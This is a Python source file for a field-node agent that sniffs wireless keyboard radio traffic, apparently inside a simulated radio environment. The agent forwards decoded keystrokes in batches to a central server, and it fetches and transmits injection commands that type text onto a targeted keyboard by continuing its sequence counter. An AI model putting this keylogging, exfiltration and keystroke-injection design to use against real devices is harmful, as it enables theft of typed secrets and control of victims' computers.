"""Field node: scans its radio, reports keystrokes, executes injections.

One agent owns one sniffer and one scanner.  Each cycle it drains raw
captures, feeds them through the scanner, batches decoded key events for
the server (flushing on size or age), then polls for injection commands
addressed to the keyboard it is locked on and transmits them, continuing
the target's observed sequence counter.  Reports are delivered at least
once: an unreachable server leaves records queued (bounded, oldest
dropped) and the server deduplicates retries.
"""
from __future__ import annotations

import base64
import logging
import re
import socket
import urllib.error
import urllib.request
from collections import deque
from dataclasses import dataclass
from json import dumps, loads

from . import ms_protocol as ms
from .esb import EsbFrame, MacAddress
from .rf_sim import InjectionOutcome, Simulator, SnifferHandle
from .scanner import Discovery, Scanner

log = logging.getLogger(__name__)

WIRE_VERSION = "v1"
BATCH_MAX_RECORDS = 32
BATCH_MAX_AGE_US = 2_000_000
QUEUE_BOUND = 10_000
INJECT_SPACING_US = 1_000     # injected frames occupy distinct air time
_NODE_ID_RE = re.compile(r"^[A-Za-z0-9-]{1,32}$")


@dataclass(frozen=True)
class NodeIdentity:
    """Who and where this node is; location stands in for radio geolocation."""

    node_id: str
    location: str = ""
    lat: float | None = None
    lon: float | None = None

    def __post_init__(self) -> None:
        if not _NODE_ID_RE.match(self.node_id):
            raise ValueError("node_id must be 1-32 chars of [A-Za-z0-9-]")


@dataclass(frozen=True)
class CaptureRecord:
    mac: MacAddress
    channel: int
    t: int
    packet_type: int
    hid_code: int
    modifiers: int
    char: str | None
    node_id: str

    @classmethod
    def from_keystroke(cls, key: ms.Keystroke, node_id: str) -> "CaptureRecord":
        return cls(
            mac=key.mac, channel=key.channel, t=key.t,
            packet_type=ms.PACKET_TYPE_KEYSTROKE if key.pressed else ms.PACKET_TYPE_IDLE,
            hid_code=key.hid_code, modifiers=key.modifiers, char=key.char,
            node_id=node_id,
        )

    def wire_line(self) -> str:
        return "|".join([
            WIRE_VERSION, self.node_id, self.mac.octets.hex(), str(self.channel),
            str(self.t), f"{self.packet_type:02x}", f"{self.hid_code:02x}",
            f"{self.modifiers:02x}",
        ])


@dataclass(frozen=True)
class InjectionOrder:
    command_id: int
    mac: MacAddress
    text: str


class ServerUnreachable(RuntimeError):
    pass


class ServerClient:
    """Thin blocking HTTP client for the node wire protocol."""

    def __init__(self, base_url: str, timeout: float = 5.0):
        self.base_url = base_url.rstrip("/")
        self.timeout = timeout
        self.sent_batches: list[str] = []     # every ingest body, for replay tests

    def _request(self, method: str, path: str, body: bytes | None = None,
                 content_type: str = "text/plain") -> str:
        request = urllib.request.Request(
            self.base_url + path, data=body, method=method,
            headers={"Content-Type": content_type} if body is not None else {},
        )
        try:
            with urllib.request.urlopen(request, timeout=self.timeout) as resp:
                return resp.read().decode("utf-8")
        except (urllib.error.URLError, ConnectionError, socket.timeout) as exc:
            raise ServerUnreachable(str(exc)) from exc

    def register(self, identity: NodeIdentity) -> None:
        payload = dumps({
            "node_id": identity.node_id, "location": identity.location,
            "lat": identity.lat, "lon": identity.lon,
        }).encode()
        self._request("POST", "/api/nodes/register", payload, "application/json")

    def ingest(self, lines: list[str]) -> tuple[int, int]:
        body = "\n".join(lines)
        text = self._request("POST", "/api/ingest", body.encode())
        self.sent_batches.append(body)
        first = text.splitlines()[0] if text else ""
        accepted = dedup = 0
        for token in first.split():
            key, _, value = token.partition("=")
            if key == "accepted":
                accepted = int(value)
            elif key == "dedup":
                dedup = int(value)
        for extra in text.splitlines()[1:]:
            log.warning("server rejected a record: %s", extra)
        return accepted, dedup

    def fetch_commands(self, node_id: str, mac_hex: str) -> list[InjectionOrder]:
        text = self._request("GET", f"/api/commands?node_id={node_id}&mac={mac_hex}")
        orders = []
        for line in text.splitlines():
            if not line.strip():
                continue
            version, command_id, mac, text_b64 = line.split("|")
            if version != WIRE_VERSION:
                raise ValueError(f"unsupported command version {version!r}")
            orders.append(InjectionOrder(
                command_id=int(command_id),
                mac=MacAddress.from_hex(mac),
                text=base64.b64decode(text_b64).decode("utf-8"),
            ))
        return orders

    def post_status(self, command_id: int, status: str, reason: str | None = None) -> None:
        body = status if reason is None else f"{status} reason={reason}"
        self._request("POST", f"/api/commands/{command_id}/status", body.encode())

    def query_captures(self, mac_hex: str, t_from: int | None = None,
                       t_to: int | None = None) -> dict | None:
        query = []
        if t_from is not None:
            query.append(f"from={t_from}")
        if t_to is not None:
            query.append(f"to={t_to}")
        suffix = ("?" + "&".join(query)) if query else ""
        try:
            return loads(self._request(
                "GET", f"/api/keyboards/{mac_hex.lower()}/captures{suffix}"))
        except ServerUnreachable:
            raise
        except Exception:
            return None


@dataclass
class _ActiveInjection:
    """An in-flight command: frames scheduled, outcomes not yet resolved."""

    command_id: int
    entry: Discovery
    frames: list[EsbFrame]
    outcomes: list[InjectionOutcome]
    final_sequence: int


class NodeAgent:
    """Drives one radio against one server; call `run_cycle` repeatedly."""

    def __init__(self, identity: NodeIdentity, client: ServerClient, sim: Simulator,
                 sniffer: SnifferHandle, scanner: Scanner | None = None,
                 report_idles: bool = False):
        self.identity = identity
        self.client = client
        self.sim = sim
        self.sniffer = sniffer
        self.scanner = scanner or Scanner()
        self.report_idles = report_idles
        self.outbound: deque[CaptureRecord] = deque()
        self.batch_started_at: int | None = None
        self.dropped_records = 0
        self.idle_packets_seen = 0
        self.injected_frames: list[EsbFrame] = []
        self._orders: deque[InjectionOrder] = deque()
        self._active: _ActiveInjection | None = None
        self._registered = False

    def run_cycle(self, now: int) -> None:
        captures = self.sniffer.drain()
        result = self.scanner.step(captures, now)
        if result.retuned:
            self.sim.retune(self.sniffer, self.scanner.current_channel)
        for key in result.keystrokes:
            if not key.pressed:
                self.idle_packets_seen += 1
                if not self.report_idles:
                    continue
            self._enqueue(CaptureRecord.from_keystroke(key, self.identity.node_id), now)
        if self.outbound and (
            len(self.outbound) >= BATCH_MAX_RECORDS
            or now - (self.batch_started_at or now) >= BATCH_MAX_AGE_US
        ):
            self.flush()
        self._resolve_active()
        self._poll_commands()
        if self._active is None and self._orders:
            self._execute(self._orders.popleft())

    def _enqueue(self, record: CaptureRecord, now: int) -> None:
        if not self.outbound:
            self.batch_started_at = now
        self.outbound.append(record)
        while len(self.outbound) > QUEUE_BOUND:
            self.outbound.popleft()
            self.dropped_records += 1

    def flush(self) -> bool:
        """Send everything queued; on failure records stay for the next try."""
        if not self.outbound:
            return True
        lines = [record.wire_line() for record in self.outbound]
        try:
            self._ensure_registered()
            self.client.ingest(lines)
        except ServerUnreachable as exc:
            log.warning("server unreachable, keeping %d records queued: %s",
                        len(self.outbound), exc)
            return False
        self.outbound.clear()
        self.batch_started_at = None
        return True

    def _ensure_registered(self) -> None:
        if not self._registered:
            self.client.register(self.identity)
            self._registered = True

    def _poll_commands(self) -> None:
        if self.scanner.mode != "locked" or self.scanner.locked_mac is None:
            return
        mac_hex = self.scanner.locked_mac.octets.hex()
        try:
            self._ensure_registered()
            self._orders.extend(self.client.fetch_commands(self.identity.node_id, mac_hex))
        except ServerUnreachable:
            return

    def _execute(self, order: InjectionOrder) -> None:
        """Schedule the command's frames on the air, spaced like a real burst.

        Outcomes resolve as simulation time passes; `_resolve_active`
        reports the terminal status on a later cycle.
        """
        entry = self.scanner.discovered.get(bytes(order.mac))
        if entry is None:
            self._report_status(order.command_id, "failed", "target-unknown")
            return
        try:
            keys = ms.text_to_keystrokes(order.text)
        except ValueError as exc:
            self._report_status(order.command_id, "failed", f"bad-text:{exc}")
            return
        sequence = entry.last_sequence
        frames: list[EsbFrame] = []
        outcomes: list[InjectionOutcome] = []
        for i, (hid, mods) in enumerate(keys):
            sequence = (sequence + 1) & 0xFFFF
            t_frame = self.sim.now + (i + 1) * INJECT_SPACING_US
            frame = ms.encode_keystroke(
                ms.Keystroke(char=None, hid_code=hid, modifiers=mods, pressed=True,
                             t=t_frame, mac=order.mac, channel=entry.channel),
                order.mac, sequence)
            frames.append(frame)
            outcomes.append(self.sim.inject(frame, entry.channel, t_frame))
        self._active = _ActiveInjection(
            command_id=order.command_id, entry=entry, frames=frames,
            outcomes=outcomes, final_sequence=sequence,
        )

    def _resolve_active(self) -> None:
        active = self._active
        if active is None or any(o.status == "pending" for o in active.outcomes):
            return
        self._active = None
        rejected = [o for o in active.outcomes if o.status != "accepted"]
        if rejected:
            self._report_status(active.command_id, "failed",
                                rejected[0].reason or "rejected")
            return
        active.entry.last_sequence = active.final_sequence
        self.injected_frames.extend(active.frames)
        self._report_status(active.command_id, "done")

    def _report_status(self, command_id: int, status: str, reason: str | None = None) -> None:
        try:
            self.client.post_status(command_id, status, reason)
        except ServerUnreachable:
            log.warning("could not report status %s for command %d", status, command_id)
